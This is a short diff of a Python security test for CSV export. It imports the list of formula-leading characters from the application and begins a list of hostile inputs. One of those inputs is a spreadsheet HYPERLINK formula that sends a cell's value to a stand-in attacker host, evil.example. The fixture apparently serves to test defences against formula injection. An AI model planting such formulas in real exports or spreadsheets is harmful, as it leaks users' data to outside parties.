@@ -9,10 +9,10 @@ import io
 import re
 from pathlib import Path
 
+from app.csv_export import FORMULA_START
 from security_world import all_routes, report, session_for
 
 ROOT = Path(__file__).resolve().parents[2]
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
